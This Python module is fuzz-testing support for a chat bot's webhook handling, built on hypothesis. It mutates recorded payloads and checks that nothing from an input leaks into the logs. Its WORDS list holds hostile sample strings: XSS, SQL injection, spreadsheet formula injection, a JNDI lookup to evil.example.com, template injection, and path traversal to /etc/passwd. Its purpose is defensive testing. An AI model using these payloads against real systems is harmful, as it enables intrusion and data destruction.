"""What strangers might send: recorded payloads with parts replaced, and inventions of hypothesis.

A run of the tests draws the same few every time; `make soak` draws thousands, new ones each time.
"""

import copy
import io
import itertools
import json
import logging
import os
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import structlog
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot import logs
from bot.logs import Form

COUNT = int(os.environ.get("SIGNOFF_HOSTILE", "100"))
SOAKING = "SIGNOFF_HOSTILE" in os.environ
PAYLOADS = Path(__file__).parent / "payloads"
CANARY = "zebulonquokka"

Json = Any
Path_ = tuple[str | int, ...]
_numbers = itertools.count(1)

WORDS = (
    CANARY,
    f"{CANARY} <!channel> <@UADA> <https://evil.example.com|look> *b* `c`",
    f"<script>alert('{CANARY}')</script><img src=x onerror=alert(1)>\"'>",
    f"[{CANARY}](javascript:alert(1)) ![x](https://evil.example.com/x.png) {{{{DATE(2026)}}}}",
    f"=cmd|'/C calc'!A0 {CANARY}",
    f"+1 {CANARY}\n@SUM(A1)\t-2\r\n\r\nHTTP/1.1 200 OK",
    f"{CANARY}\x00\x07\x1b[2J\u202e\u2066\ufeff\u200b",
    f"\ud83d{CANARY}\ude00",
    f"' OR 1=1; DROP TABLE draft; -- {CANARY}",
    f"{{{{7*7}}}} ${{jndi:ldap://evil.example.com/{CANARY}}} %s%n {{0.__class__}}",
    f"../../../../etc/passwd%00{CANARY}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "\u0301" * 400 + CANARY,
    "a" * 30_000,
    f"open #1 {CANARY}",
    f"delegate @{CANARY}",
    "approve",
    "",
    " ",
)
VALUES = (
    *(None, True, False, 0, -1, 1, 2**31, 2**63, 2**200, -(2**70), 1.5, 1e308, 5e-324),
    *([], {}, [[]], [None], {"": ""}, ["x"] * 300, {str(n): n for n in range(200)}),
    *({"$ref": "#"}, {"__class__": "x"}, "1" * 400, "9" * 13, "-1", "1.5", "١٢", "NaN"),
)


def nested(depth: int) -> Json:
    value: Json = CANARY
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=12,
)
values = (
    st.sampled_from(WORDS)
    | st.sampled_from(VALUES)
    | st.text(max_size=200)
    | json_values
    | st.integers(1, 80).map(nested)
)


def paths(value: Json, at: Path_ = ()) -> Iterator[Path_]:
    """The place of everything in a payload."""
    if at:
        yield at
    items: Iterable[tuple[str | int, Json]] = ()
    if isinstance(value, dict | list):
        items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, inner in items:
        yield from paths(inner, (*at, key))


@st.composite
def mutated(draw: st.DrawFn, payloads: Sequence[Json]) -> Json:
    """A payload with up to four of its parts changed, taken away, doubled or put elsewhere."""
    payload = copy.deepcopy(draw(st.sampled_from(payloads)))
    for _ in range(draw(st.integers(0, 4))):
        places = list(paths(payload))
        if not places:
            break
        *way, last = draw(st.sampled_from(places))
        holder = payload
        for step in way:
            holder = holder[step]
        _change(draw, holder, last)
    return payload


def _change(draw: st.DrawFn, holder: Json, key: str | int) -> None:
    match draw(st.sampled_from(["set", "set", "set", "drop", "wrap", "rename", "inside"])):
        case "set":
            holder[key] = copy.deepcopy(draw(values))  # the next change may be inside it
        case "drop":
            del holder[key]
        case "wrap":
            holder[key] = draw(st.sampled_from([[holder[key]], {"x": holder[key]}]))
        case "rename" if isinstance(holder, dict):
            holder[draw(st.sampled_from(["type", "user", "id", "text", "value", "", CANARY]))] = (
                holder.pop(key)
            )
        case "inside" if isinstance(holder[key], str):
            holder[key] = changed_inside(draw, holder[key])


def changed_inside(draw: st.DrawFn, words: str) -> str:
    """JSON inside a string, such as a button's value, changed as well; other words broken."""
    try:
        inner = json.loads(words)
    except ValueError:
        cut = draw(st.integers(0, len(words)))
        return words[:cut] + draw(st.sampled_from(WORDS)) + words[cut:]
    if not isinstance(inner, dict) or not inner:
        return draw(st.sampled_from(WORDS))
    inner[draw(st.sampled_from(sorted(inner)))] = copy.deepcopy(draw(values))
    return json.dumps(inner)


@dataclass(frozen=True)
class Damage:
    """What happens to a body's bytes on the way. It is told by a share of the body's length, so
    that it can be drawn before the body is known.
    """

    kind: str
    share: float
    byte: bytes

    def done_to(self, body: bytes) -> bytes:
        at = int(self.share * len(body))
        match self.kind:
            case "cut":
                return body[:at]
            case "flip":
                return body[:at] + self.byte[:1] + body[at + 1 :]
            case "put":
                return body[:at] + self.byte + body[at:]
            case "twice":
                return body + body
            case "mark":
                return b"\xef\xbb\xbf" + body
        return body


damages = st.builds(
    Damage,
    st.sampled_from(["none"] * 7 + ["cut", "flip", "put", "twice", "mark"]),
    st.floats(0, 1),
    st.sampled_from([b"\xff\xfe", b"\x00", b'"', b"}", b"&", b"=", b"\\", b"[" * 2_000]),
)


def as_json(payload: Json) -> bytes:
    """The payload as JSON; half of them, by their length, escape what is not ASCII."""
    escaped = json.dumps(payload)
    if len(escaped) % 2:
        return escaped.encode()
    return json.dumps(payload, ensure_ascii=False).encode("utf-8", "surrogatepass")


class Seeds(list[Json]):
    """Payloads to begin from. Too many to be shown with each failure."""

    def __repr__(self) -> str:
        return f"Seeds({len(self)})"


def recorded(folder: str, replace: dict[str, str]) -> Seeds:
    """The recorded payloads of a platform, with ids put in that somebody here has."""
    found = Seeds()
    for file in sorted((PAYLOADS / folder).glob("*.json")):
        text = file.read_text(encoding="utf-8")
        for old, new in replace.items():
            text = text.replace(old, new)
        found.append(json.loads(text))
    assert found
    return found


def fresh() -> str:
    """An id that was not used before, so that nothing is taken for a redelivery."""
    return f"fresh-{next(_numbers)}"


def each(payloads: st.SearchStrategy[Any], send: Callable[[Any], None]) -> None:
    """Sends each of `COUNT` payloads; a failure is made as small as possible and shown."""

    @settings(
        max_examples=COUNT,
        deadline=None,
        derandomize=not SOAKING,
        database=None,
        print_blob=SOAKING,
        suppress_health_check=list(HealthCheck),
    )
    @given(payloads)
    def sent(payload: Any) -> None:
        send(payload)

    sent()


class Quiet:
    """The log of everything, in which no word of a payload and no defect of ours may stand."""

    def __init__(self) -> None:
        self.words = io.StringIO()

    def check(self) -> None:
        found = self.words.getvalue()
        self.words.seek(0)
        self.words.truncate()
        assert CANARY not in found.casefold(), "a word of a payload is in the log"
        assert '"event": "defect"' not in found, found
        assert "Traceback" not in found, found


@contextmanager
def quiet() -> Iterator[Quiet]:
    made = Quiet()
    logs.configure("DEBUG", form=Form.JSON, to=made.words)  # type: ignore[arg-type]
    handler = logging.StreamHandler(made.words)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s %(exc_text)s"))
    logging.getLogger().addHandler(handler)
    try:
        yield made
        made.check()
    finally:
        logging.getLogger().handlers.clear()
        structlog.reset_defaults()
